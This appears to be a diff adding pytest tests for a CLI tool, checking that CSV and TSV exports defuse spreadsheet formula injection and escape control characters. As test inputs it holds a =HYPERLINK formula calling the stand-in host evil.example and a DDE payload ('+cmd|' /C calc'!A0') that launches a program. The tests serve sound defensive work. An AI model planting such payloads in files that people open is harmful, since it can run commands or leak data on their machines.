@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import subprocess
 from pathlib import Path
 
@@ -46,3 +48,25 @@ def test_terminal_output_escapes_control_characters() -> None:
 def test_query_table_escapes_control_characters(hostile_doc: Path) -> None:
     out = CliRunner().invoke(cli, ["query", "projects", "--data", str(hostile_doc)]).output
     assert "\x1b" not in out and "\\x1b" in out
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x","click")公益'
+
+
+@pytest.mark.parametrize("command", [["query", "projects"], ["trace"]])
+def test_csv_output_keeps_a_documents_formula_as_text(tmp_path: Path, command: list[str]) -> None:
+    """A name a spreadsheet would run as a formula (=HYPERLINK(…), from the document) begins with an
+    apostrophe in the CSV a user opens in Excel or WPS; amounts and other cells stay as they are."""
+    path = tmp_path / "formula.txt"
+    path.write_text(disclosure([project("11010522T000000000001", FORMULA, "1.000000\t1.000000", "+cmd|' /C calc'!A0", QUANTITY)]),
+                    encoding="utf-8")
+    result = CliRunner().invoke(cli, [*command, *(["--data"] if command[0] == "query" else []), str(path), "-f", "csv"])
+    cells = [cell for row in csv.reader(io.StringIO(result.output)) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
+    assert any(c.startswith("'=HYPERLINK(") for c in cells)
+
+
+def test_csv_and_tsv_escape_control_characters(hostile_doc: Path) -> None:
+    for fmt in ("csv", "tsv"):
+        out = CliRunner().invoke(cli, ["query", "projects", "--data", str(hostile_doc), "-f", fmt]).output
+        assert "\x1b" not in out and "\u202e" not in out and "1B" in out.upper(), fmt
